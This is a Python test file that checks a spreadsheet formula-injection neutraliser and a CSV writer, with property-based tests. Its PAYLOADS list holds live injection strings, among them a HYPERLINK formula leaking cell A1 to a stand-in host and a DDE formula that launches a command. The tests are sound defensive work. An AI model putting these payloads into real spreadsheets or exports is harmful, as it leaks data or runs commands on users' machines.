"""Spreadsheet formula injection: the one neutraliser and the one CSV writer of the project."""

from __future__ import annotations

import csv
import datetime as dt
import io

from hypothesis import given
from hypothesis import strategies as st

from lib.spreadsheet import FORMULA_STARTS, csv_writer, neutralise_cell

PAYLOADS = [
    '=HYPERLINK("http://x.example/?leak="&A1,"Cliquer")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "   =1+1",
    "＝1+1",
]


def test_every_known_payload_is_prefixed_with_a_quote():
    for payload in PAYLOADS:
        assert neutralise_cell(payload) == "'" + payload


def test_ordinary_values_are_left_alone():
    assert neutralise_cell("TREA11561101") == "TREA11561101"
    assert neutralise_cell("Tremblay-Gagnon") == "Tremblay-Gagnon"
    assert neutralise_cell(dt.date(2026, 10, 3)) == "2026-10-03"
    assert neutralise_cell(None) == ""
    assert neutralise_cell(34) == "34"


@given(st.text())
def test_no_cell_ever_starts_a_formula(text):
    cell = neutralise_cell(text)
    assert cell in (text, "'" + text)
    assert not cell.lstrip(" ").startswith(FORMULA_STARTS)


@given(st.lists(st.lists(st.text(), min_size=1, max_size=5), min_size=1, max_size=5))
def test_the_writer_neutralises_every_cell_and_reads_back(rows):
    out = io.StringIO()
    csv_writer(out).writerows(rows)
    back = list(csv.reader(io.StringIO(out.getvalue(), newline=""), delimiter=";"))
    assert back == [[neutralise_cell(cell) for cell in row] for row in rows]
